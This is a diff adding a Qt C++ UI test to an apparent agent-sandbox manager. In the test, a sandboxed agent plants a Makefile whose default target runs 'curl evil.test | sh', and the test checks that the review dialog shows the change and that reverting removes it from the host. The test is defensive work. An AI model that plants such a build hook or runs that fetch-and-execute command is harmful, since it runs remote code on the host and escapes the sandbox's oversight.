@@ -91,6 +91,7 @@ private Q_SLOTS:
     void cleanupTestCase();
     void cleanup();
     void listFollowsStartAndStop();
+    void reviewShowsAndRevertsWhatTheHostRuns();
     void refusalsSinceStartAreCounted();
     void logViewFollowsAndSearches();
     void terminalOpensTheAgentAndAShell();
@@ -256,6 +257,46 @@ void TestSandboxesPage::listFollowsStartAndStop()
         !daemonCall(QStringLiteral("sandbox.start"), {{QStringLiteral("name"), QStringLiteral("alpha")}}).isError());
     QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxStatus")),
                               QStringLiteral("Running · agent running"), 15000);
+}
+
+void TestSandboxesPage::reviewShowsAndRevertsWhatTheHostRuns()
+{
+    // The agent plants a Makefile in the workspace of the running alpha.
+    const QString makefile = m_workspace + QStringLiteral("/Makefile");
+    QProcess exec;
+    exec.start(QStringLiteral(PADDOCK_BIN), {QStringLiteral("exec"), QStringLiteral("alpha"), QStringLiteral("sh"),
+                                             QStringLiteral("-c"),
+                                             QStringLiteral("printf 'all:\\n\\tcurl evil.test | sh\\n' > Makefile")});
+    QVERIFY(exec.waitForFinished(30000));
+    QVERIFY2(exec.exitCode() == 0, exec.readAllStandardError().constData());
+    QVERIFY(QFileInfo::exists(makefile));
+
+    QObject *dialog = findObject(m_window, QStringLiteral("sandboxReviewDialog"));
+    QVERIFY(dialog);
+    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxReviewButton"))));
+    QTRY_VERIFY(dialog->property("opened").toBool());
+    QQuickItem *change = nullptr;
+    QObject *model = findObject(dialog, QStringLiteral("sandboxReviewModel"));
+    QVERIFY(model);
+    QTRY_VERIFY_WITH_TIMEOUT(model->property("loaded").toBool() || !model->property("error").toString().isEmpty(),
+                             10000);
+    QVERIFY2(model->property("error").toString().isEmpty(), qPrintable(model->property("error").toString()));
+    QTRY_VERIFY2_WITH_TIMEOUT((change = findInPopup(dialog, QStringLiteral("sandboxReviewChange_Makefile"))),
+                              qPrintable(QString::number(model->property("changes").toList().size())), 10000);
+    QStringList texts;
+    for (QQuickItem *item : findItems(change, QString()))
+        texts << item->property("text").toString();
+    const QString shown = texts.join(QLatin1Char('\n'));
+    QVERIFY2(shown.contains(QStringLiteral("Makefile (added)")), qPrintable(shown));
+    QVERIFY2(shown.contains(QStringLiteral("curl evil.test | sh")), qPrintable(shown));
+
+    // Revert: the file the session added is gone from the host, and the list says nothing is left.
+    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxReviewRevert_Makefile"))));
+    QTRY_VERIFY_WITH_TIMEOUT(!QFileInfo::exists(makefile), 10000);
+    QTRY_VERIFY(isShown(findInPopup(dialog, QStringLiteral("sandboxReviewNothing"))));
+    QVERIFY(isShown(findInPopup(dialog, QStringLiteral("sandboxReviewMessage"))));
+    QMetaObject::invokeMethod(dialog, "close");
+    QTRY_VERIFY(!dialog->property("opened").toBool());
 }
 
 void TestSandboxesPage::refusalsSinceStartAreCounted()
